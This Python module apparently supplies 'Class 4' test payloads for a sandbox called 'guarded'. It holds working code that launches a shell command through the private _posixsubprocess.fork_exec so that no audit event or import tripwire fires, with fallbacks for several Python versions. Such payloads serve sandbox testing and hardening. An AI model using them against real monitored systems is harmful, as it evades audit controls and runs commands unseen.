"""Class 4: process creation that raises no audit event.

``_posixsubprocess.fork_exec`` runs a program without an event (``Popen``
raises one in ``__init__``, before it); ``guarded`` leaves ``subprocess``
and ``sys`` importable, and both are already loaded, so no first-import
tripwire fires.
"""

# fork_exec's arguments changed within minor releases (3.11.7 took the
# vfork flag that 3.11.0 lacked), so the payload tries each known shape:
# 23 arguments (3.11.7+, 3.12, 3.13), 22 (early 3.11), 21 (3.10).
_ARGS = ("import os, subprocess, sys\n"
         "r, w = os.pipe()\n"
         "tails = [(False, False, -1, None, None, None, -1, None, True),\n"
         "         (False, False, -1, None, None, None, -1, None),\n"
         "         (False, False, None, None, None, -1, None)]\n"
         "argv = [b'/bin/sh', b'-c', @C@.encode()]\n"
         "head = (argv, [b'/bin/sh'], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w)\n"
         "def spawn(fe):\n"
         "    for tail in tails:\n"
         "        try:\n"
         "            return fe(*head, *tail)\n"
         "        except TypeError as e:\n"
         "            if 'argument' not in str(e):\n"
         "                raise\n"
         "    raise TypeError('no known fork_exec signature')\n")

PAYLOADS = [
    ("fork_exec_via_subprocess", "unaudited_spawn", "run_command",
     _ARGS + "fe = getattr(subprocess, '_fork_exec', None) or subprocess._posixsubprocess.fork_exec\n"
     "os.waitpid(spawn(fe), 0)"),
    ("fork_exec_via_sys_modules", "unaudited_spawn", "run_command",
     _ARGS + "import sys\nfe = sys.modules['_posixsubprocess'].fork_exec\n"
     "os.waitpid(spawn(fe), 0)"),
    # the extension module itself: already loaded, so no import event
    ("fork_exec_direct_import", "unaudited_spawn", "run_command",
     _ARGS + "import _posixsubprocess\n"
     "os.waitpid(spawn(_posixsubprocess.fork_exec), 0)"),
]
